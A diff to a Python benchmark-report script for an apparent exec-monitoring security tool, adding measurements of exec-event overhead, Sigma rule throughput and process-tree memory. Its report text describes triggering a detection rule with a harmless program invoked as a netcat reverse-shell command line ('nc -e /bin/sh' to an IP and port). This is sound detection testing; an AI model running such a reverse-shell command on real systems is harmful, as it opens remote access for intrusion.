@@ -15,6 +15,9 @@
 # --data-icount: the same cached workloads from a second guest whose clocks count instructions
 # (QEMU -icount), where a run repeats to within a few instructions whatever the host is doing; the
 # cached targets are judged on it, the wall-clock figures are shown beside it.
+#
+# --host: figures taken natively on the host after the guests (the same `# bench` lines): the
+# relay's Sigma rules over the exec stream the wall-clock guest recorded, and its process tree.
 import argparse
 import math
 import re
@@ -22,6 +25,15 @@ import statistics
 import sys
 
 MIB = 1 << 20
+# The relay's process tree holding 100,000 live processes: its memory bound (WHORL_PROCTREE_BYTES,
+# userspace/proctree.h, is this too: the tree's own accounting never passes it).
+TREE_LIVE = 100000
+TREE_BOUND = 64 * MIB
+# The rules' throughput target, exec events per second on one core, and SigmaHQ's rule count.
+RULES_EPS = 50000
+SIGMAHQ_RULES = 122
+# t-40's exec workloads: exec events on vs off.
+EV = ("exec.static", "exec.dynamic")
 CACHED = ("exec.static", "exec.dynamic", "mmap")
 NAMES = {
     "exec.static": "fork + exec + wait, static program (image layer)",
@@ -102,6 +114,12 @@ def compute(s, info, c):
         v["null." + w] = compare(s, "null." + w)
         v["nullp." + w] = compare(s, "nullp." + w)
         v["ima." + w] = compare(s, w, "ima-on", "ima-off", paired=False)
+    for w in EV:
+        v["ev." + w] = compare(s, w, "ev-on", "ev-off")
+    v["execev.judged"] = med(s.get("execev.judged", []))
+    rl = s.get("rule.latency.ns", [])
+    v["rlat.n"], v["rlat.p50"], v["rlat.p99"] = len(rl), pct(rl, 50), pct(rl, 99)
+    v["rlat.max"] = max(rl) if rl else None
     v["first"] = compare(s, "first")
     v["ima.first"] = compare(s, "first", "ima-on", "ima-off", paired=False)
     size = int((info.get("first.size") or ["0"])[0])
@@ -210,6 +228,15 @@ SMOKE_KEYS += [
     "intel.bytes", "mem.vmalloc.delta_kB", "mem.vmallocinfo.whorl_bytes", "ima.measurements.on",
 ]
 SMOKE_KEYS += [f"fair.{f}.latency.ns" for f in FLOODS]
+# t-40: exec events on vs off, on both clocks; the rule's latency and the recorded stream, wall only
+SMOKE_KEYS_EV = [f"{w}.{st}{sfx}" for w in EV for st in ("ev-on", "ev-off") for sfx in ("", ".p50", ".p10")]
+SMOKE_KEYS_EV += ["execev.judged"]
+SMOKE_KEYS += SMOKE_KEYS_EV + ["rule.latency.ns", "stream.events"]
+# ... and natively on the host
+SMOKE_KEYS_HOST = ["stream.kept", "stream.images", "rules.loaded", "rules.eps", "relay.eps",
+                   "tree.n", "tree.bytes", "tree.rss_bytes", "tree.hwm_bytes", "tree.str_bytes",
+                   "tree.max", "tree.max_bytes", "tree.add_ns", "tree.long.n", "tree.long.bytes",
+                   "tree.long.rss_bytes"]
 # ... and of the instruction-clock guest: the cached workloads only.
 SMOKE_KEYS_ICOUNT = [f"{p}{w}.{st}{sfx}" for p in ("", "ab.", "null.", "nullp.") for w in CACHED
                      for st in ("on", "off") for sfx in ("", ".p50", ".p10")]
@@ -217,9 +244,13 @@ SMOKE_KEYS_ICOUNT += [f"{w}.{st}" for w in CACHED + ("first",) for st in ("ima-o
 SMOKE_KEYS_ICOUNT += ["first.on", "first.off", "first.busy", "hash.kernel.Bps"]
 SMOKE_KEYS_ICOUNT += ["cache.hits.on", "memo.hits.on", "hooks.exec.static.hookExec",
                       "hooks.exec.dynamic.hookMmap", "ima.measurements.on"]
+SMOKE_KEYS_ICOUNT += SMOKE_KEYS_EV
 SMOKE_DERIVED_ICOUNT = [(f"overhead {p}{w} {st}", (lambda p, w, st: lambda v: v[p + w][st])(p, w, st))
                         for p in ("", "ab.", "ima.") for w in CACHED for st in ("mean", "p50")]
 SMOKE_DERIVED_ICOUNT += [("overhead first", lambda v: v["first"]["mean"])]
+SMOKE_DERIVED_EV = [(f"overhead ev.{w} {st}", (lambda w, st: lambda v: v["ev." + w][st])(w, st))
+                    for w in EV for st in ("mean", "p50")]
+SMOKE_DERIVED_ICOUNT += SMOKE_DERIVED_EV
 SMOKE_DERIVED = [(f"overhead {p}{w} {st}", (lambda p, w, st: lambda v: v[p + w][st])(p, w, st))
                  for p in ("", "ab.", "null.", "nullp.", "ima.") for w in CACHED for st in ("mean", "p50")]
 SMOKE_DERIVED += [
@@ -230,11 +261,13 @@ SMOKE_DERIVED += [
     ("hash ratio sha256sum", lambda v: v["hash.sha256sum.ratio"]),
     ("latency p50", lambda v: v["lat.p50"]),
     ("latency p99", lambda v: v["lat.p99"]),
-]
+    ("rule latency p50", lambda v: v["rlat.p50"]),
+    ("rule latency p99", lambda v: v["rlat.p99"]),
+] + SMOKE_DERIVED_EV
 
 
-def smoke(samples, v, tap, guest_rc, ic):
-    """ic: (samples, v, tap, rc) of the instruction-clock guest."""
+def smoke(samples, v, tap, guest_rc, ic, hd):
+    """ic: (samples, v, tap, rc) of the instruction-clock guest; hd: (samples, info) of the host."""
     bad = 0
 
     def line(ok, name, why=""):
@@ -268,12 +301,29 @@ def smoke(samples, v, tap, guest_rc, ic):
     guest("", samples, v, tap, guest_rc, SMOKE_KEYS, SMOKE_DERIVED)
     isamples, iv, itap, irc, _ = ic
     guest("icount: ", isamples, iv, itap, irc, SMOKE_KEYS_ICOUNT, SMOKE_DERIVED_ICOUNT)
+    hs, hi = hd
+    for k in SMOKE_KEYS_HOST:
+        xs = hs.get(k, [])
+        line(bool(xs) and all(x > 0 for x in xs), "host: " + k, f"samples {xs}")
+    sig = (hi.get("rules.sigmahq") or ["absent"])[0]
+    if sig.startswith("absent"):
+        print(f"ok host: SigmaHQ's rules in the throughput # SKIP {sig}")
+    else:
+        line(min(hs.get("rules.loaded", [0])) >= SIGMAHQ_RULES, "host: SigmaHQ's rules in the throughput",
+             f"rules loaded {hs.get('rules.loaded')}, {sig}")
     print(f"# {bad} failed")
     return 1 if bad else 0
 
 
-def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
+def markdown(v, samples, info, meta, console, guest_rc, tap, ic, hd):
     isamples, iv, itap, irc, iinfo = ic
+    hs, hi = hd
+
+    def hmed(k):
+        return med(hs.get(k, []))
+
+    def hinfo(k):
+        return (hi.get(k) or ["n/a"])[0]
     iinfo_driver = iinfo.get("hash.kernel.driver")
     m = dict(kv.split("=", 1) for kv in meta)
     L = []
@@ -351,6 +401,16 @@ def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
                              f"mean {fmt_pct(x['mean'])}",
                              verdict(None if r is None else r <= lim) +
                              ("" if vv is iv else " (wall clock: see the ranges)")))
+    for w, what in (("exec.static", "static program"), ("exec.dynamic", "dynamic `/usr/bin/true`")):
+        for vv, clock in ((iv, "instruction clock"), (v, "wall clock")):
+            x = vv["ev." + w]
+            r = x["p50"]
+            rows.append((f"cached exec ≤ 2 % with exec events and context capture on, {what}: exec events on vs "
+                         f"off, module loaded, a relay with the shipped rules consuming them, {clock}",
+                         f"p50 {fmt_pct(r)}{fmt_range(x, 'p50')}; p10 {fmt_pct(x['p10'])}; mean {fmt_pct(x['mean'])}; "
+                         f"{x['n']} round pairs",
+                         verdict(None if r is None else r <= 1.02) +
+                         ("" if vv is iv else " (wall clock: see the ranges)")))
     for vv, where, control, suffix in (
             (iv, "the hash on the exec's own CPU, instruction clock",
              "spinner at nice 0 on that CPU", ""),
@@ -390,6 +450,25 @@ def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
                      f"≈ {load / f / 1e9:.2f} s: the guest's {fmt_ns(load)} ÷ {f:.1f}, the guest/host ratio of "
                      f"the tool's CPU time parsing this feed ({fmt_ns(gu)} vs {fmt_ns(hu)} on the host)",
                      verdict(load / f <= 3e9) + " (estimate)"))
+    eps, rloaded = hmed("rules.eps"), hmed("rules.loaded")
+    sig = hinfo("rules.sigmahq")
+    if sig.startswith("absent") or sig == "n/a":
+        ok, note = None, f" (SigmaHQ's rules {sig}: the shipped rules alone)"
+    else:
+        ok, note = (None if eps is None else eps >= RULES_EPS), ""
+    rows.append((f"the relay's Sigma rules, all shipped + SigmaHQ's {SIGMAHQ_RULES}, ≥ {RULES_EPS:,} exec events/s "
+                 "on one core, natively (`whorl rules bench`, the stream recorded in the guest)",
+                 "n/a" if eps is None else
+                 f"{eps:,.0f} events/s ({rloaded:.0f} rules; runs {', '.join(f'{x:,}' for x in hs.get('rules.eps', []))})"
+                 + note,
+                 verdict(ok)))
+    tn, tev, trss, tb = hmed("tree.n"), hmed("tree.evicted"), hmed("tree.rss_bytes"), hmed("tree.bytes")
+    tok = None if None in (tn, tev, trss) else (tn >= TREE_LIVE and tev == 0 and trss <= TREE_BOUND)
+    rows.append((f"the relay's process tree ≤ {TREE_BOUND // MIB} MiB with {TREE_LIVE:,} live processes, natively "
+                 "(the process's RSS growth; none evicted)",
+                 "n/a" if None in (tn, trss, tb) else
+                 f"{trss / MIB:.1f} MiB ({tn:,.0f} held, {tev:.0f} evicted; the tree's own count {tb / MIB:.1f} MiB)",
+                 verdict(tok)))
     for r in rows:
         a(f"| {r[0]} | {r[1]} | {r[2]} |")
     a("")
@@ -441,6 +520,30 @@ def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
     a("")
     cached_table(v, "", "loaded", "unloaded", fmt_ns)
     cached_table(v, "ab.", "armed", "disarmed", fmt_ns)
+    a("### Exec events on vs off")
+    a("")
+    a("The module loaded, its cache warm, and a relay started with the shipped rules (`whorl relay")
+    a("--rules`, rules/ as packaged: it turns exec events on and judges every exec) running")
+    a("throughout; between rounds `whorl config --exec-events on|off` switches the module's exec")
+    a("events (ABBA, tests/bench/t-40-execev.sh). On, each exec in a container also captures its")
+    a("context in the kernel (working directory, user, stdio and a socket's peer, the allow-listed")
+    a("environment from up to 64 KiB of it) and the worker sends it as `WHORL_CMD_EXEC` to the relay,")
+    a("which records it in its process tree and matches it against every rule. On the instruction")
+    a("clock the two vCPUs take turns on one host thread and every instruction advances the clock,")
+    a("so the worker's and the relay's work for an exec counts in its time wherever it runs. The")
+    a(f"relay judged {iv['execev.judged'] or 0:.0f} execs in the on rounds (instruction clock; "
+      f"{v['execev.judged'] or 0:.0f} on the wall clock; lost by the kernel: "
+      f"{', '.join(str(x) for x in isamples.get('execev.lost', []) + samples.get('execev.lost', [])) or 'n/a'}).")
+    a("")
+    a("| workload | clock | p50 on | p50 off | overhead p50 | overhead p10 | overhead mean | rounds |")
+    a("|---|---|---|---|---|---|---|---|")
+    for w in EV:
+        for vv, clock, unit in ((iv, "instruction", fmt_insn), (v, "wall", fmt_ns)):
+            x = vv["ev." + w]
+            a(f"| {NAMES[w]} | {clock} | {unit(x['p50.on'])} | {unit(x['p50.off'])} | {fmt_pct(x['p50'])}"
+              f"{fmt_range(x, 'p50')} | {fmt_pct(x['p10'])}{fmt_range(x, 'p10')} | {fmt_pct(x['mean'])}"
+              f"{fmt_range(x, 'mean')} | {x['n']} |")
+    a("")
     a("### Where the instructions go")
     a("")
     a("The armed/disarmed blocks again with the module unloaded and empty probes in its place, on the")
@@ -588,6 +691,21 @@ def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
     a("|---|---|---|---|")
     a(f"| {v['lat.n']} | {fmt_ns(v['lat.p50'])} | {fmt_ns(v['lat.p99'])} | {fmt_ns(v['lat.max'])} |")
     a("")
+    a("**A Sigma rule's match.** The relay runs with the shipped rules (`--rules`); a harmless")
+    a("program copied into the container as `/tmp/nc` runs as `nc -e /bin/sh 10.0.0.9 4444`, one")
+    a("exec every 50 ms, each matched by `rules/netcat_remote_code_execution.yml` (the first two, the")
+    a("program's first sight, left out). Latency as above: from the exec's `eventTime` to the")
+    a("finding's line read; it spans the exec event's capture, the worker, netlink, the relay's")
+    a("process tree, the rules and the JSON output.")
+    a("")
+    a("| findings | p50 | p99 | max |")
+    a("|---|---|---|---|")
+    a(f"| {v['rlat.n']} | {fmt_ns(v['rlat.p50'])} | {fmt_ns(v['rlat.p99'])} | {fmt_ns(v['rlat.max'])} |")
+    a("")
+    fr = gi("rule.finding")
+    if fr != "n/a":
+        a(f"The first finding, cut at 300 characters: `{fr}`")
+        a("")
 
     a("## Fairness: latency while another container floods")
     a("")
@@ -640,6 +758,58 @@ def markdown(v, samples, info, meta, console, guest_rc, tap, ic):
       f"{gi('mem.meminfo')}. /proc/slabinfo {gi('mem.slabinfo')}.")
     a("")
 
+    a("## The relay natively: Sigma rules and the process tree")
+    a("")
+    a("On the host, after the guests, with the machine otherwise idle and no module needed: the")
+    a("relay's own code, pinned to one core (`taskset -c 0`).")
+    a("")
+    a("**The event stream.** Recorded in this run's wall-clock guest: the relay with the shipped")
+    a("rules and `--exec-log` while a container ran a workload of its image's programs (ls, cat,")
+    a("head, id, uname, env, stat, sha256sum, mkdir, cp, xz, unxz, rm, sh; each round one of netcat")
+    a("`-e`, a base64 ELF header on a command line, a proxy in the environment), "
+      f"{(samples.get('stream.events') or ['n/a'])[0]} execs as the module captured them and the relay "
+      f"judged them; kept in build/logs/bench/exec-stream.jsonl ({hmed('stream.kept') or 0:.0f} events, "
+      f"{hmed('stream.images') or 0:.0f} distinct programs). `whorl rules bench` replays it through the rules "
+      "(matching alone: the JSON is parsed before the clock starts); `exec-bench` "
+      "(userspace/tests/exec_bench.c) turns the same events into the module's `WHORL_CMD_EXEC` messages "
+      "and times the relay's whole per-exec path (parse, process tree, Sigma event, every rule, a "
+      "finding rendered per match).")
+    a("")
+    a(f"Rules: the shipped rules ({hinfo('rules.shipped')}) and SigmaHQ's ({sig}).")
+    a("")
+    a("| | exec events per second, one core (median of runs) | runs |")
+    a("|---|---|---|")
+    a(f"| `whorl rules bench`: matching | {'n/a' if eps is None else f'{eps:,.0f}'} | "
+      f"{', '.join(f'{x:,}' for x in hs.get('rules.eps', []))} |")
+    reps = hmed("relay.eps")
+    a(f"| exec-bench: the relay's per-exec path | {'n/a' if reps is None else f'{reps:,.0f}'} | "
+      f"{', '.join(f'{x:,}' for x in hs.get('relay.eps', []))} |")
+    a("")
+    for y in hi.get("rules.bench", [])[:2] + hi.get("relay.bench", [])[:2]:
+        a(f"    {y}")
+    a("")
+    a(f"**The process tree.** {TREE_LIVE:,} distinct execs recorded in a tree with the relay's own "
+      f"bounds ({hmed('tree.max') or 0:,.0f} execs, {(hmed('tree.max_bytes') or 0) / MIB:.0f} MiB: "
+      "`WHORL_PROCTREE_MAX`, `WHORL_PROCTREE_BYTES`), each a live process (none exits, nothing is "
+      "swept), its path and argv those of the next event of userspace/tests/sigma/replay-benign.jsonl "
+      "(a container workload: entrypoints, apt, a gcc build, servers), cycled "
+      "(tests/bench/host/proctree-mem.c). Then the same with a 1 KiB argument added to every "
+      "argv (the tree keeps 1 KiB of argv): long command lines, where the byte bound evicts "
+      "the least recently used instead of growing. Memory: the tree's own count (nodes and "
+      "strings), and the process's VmRSS and VmHWM growth over the filling (the bucket array "
+      "and the allocator's overhead included).")
+    a("")
+    a("| execs | path + argv per exec | held | evicted | the tree's count | RSS growth | VmHWM growth | per exec (RSS) | CPU per exec recorded |")
+    a("|---|---|---|---|---|---|---|---|---|")
+    for p, label in (("tree.", "replay-benign"), ("tree.long.", "+ 1 KiB argument")):
+        n_, st_, ev_ = hmed(p + "n"), hmed(p + "str_bytes"), hmed(p + "evicted")
+        b_, r_, h_, t_ = hmed(p + "bytes"), hmed(p + "rss_bytes"), hmed(p + "hwm_bytes"), hmed(p + "add_ns")
+        if None in (n_, st_, ev_, b_, r_, h_):
+            a(f"| {TREE_LIVE:,}, {label} | n/a | | | | | | | |")
+            continue
+        a(f"| {TREE_LIVE:,}, {label} | {st_:.0f} bytes | {n_:,.0f} | {ev_:,.0f} | {b_ / MIB:.1f} MiB | "
+          f"{r_ / MIB:.1f} MiB | {h_ / MIB:.1f} MiB | {r_ / max(n_, 1):.0f} bytes | {fmt_ns(t_)} |")
+    a("")
     a("## The incumbent: IMA")
     a("")
     a("The same guest and container, whorl unloaded. The guest boots with no `ima_policy=`: IMA is")
@@ -755,6 +925,7 @@ def main():
     ap.add_argument("--data", required=True)
     ap.add_argument("--console", required=True)
     ap.add_argument("--calibration", required=True)
+    ap.add_argument("--host", default="")
     ap.add_argument("--guest-rc", type=int, default=0)
     ap.add_argument("--data-icount", required=True)
     ap.add_argument("--icount-rc", type=int, default=0)
@@ -775,8 +946,13 @@ def main():
         isamples, iinfo, itap = {}, {}, [("not ok", f"data channel - {e}")]
     iv = compute(isamples, iinfo, calib)
     ic = (isamples, iv, itap, o.icount_rc, iinfo)
+    try:
+        hsamples, hinfo, _ = parse(o.host)
+    except OSError:
+        hsamples, hinfo = {}, {}
+    hd = (hsamples, hinfo)
     if o.smoke:
-        return smoke(samples, v, tap, o.guest_rc, ic)
+        return smoke(samples, v, tap, o.guest_rc, ic, hd)
 
     console = []
     try:
@@ -786,7 +962,7 @@ def main():
                     console.append(line.rstrip("\n"))
     except OSError:
         pass
-    text = markdown(v, samples, info, o.meta, console, o.guest_rc, tap, ic)
+    text = markdown(v, samples, info, o.meta, console, o.guest_rc, tap, ic, hd)
     with open(o.out, "w") as f:
         f.write(text)
     summary = text.split("## Targets", 1)[1].split("\n## ", 1)[0]
@@ -794,6 +970,7 @@ def main():
     print(f"(written to {o.out})")
     missing = [k for k in SMOKE_KEYS if not samples.get(k)]
     missing += [f"icount: {k}" for k in SMOKE_KEYS_ICOUNT if not isamples.get(k)]
+    missing += [f"host: {k}" for k in SMOKE_KEYS_HOST if not hsamples.get(k)]
     if missing:
         print(f"bench: no figure for: {', '.join(missing)}", file=sys.stderr)
         return 1
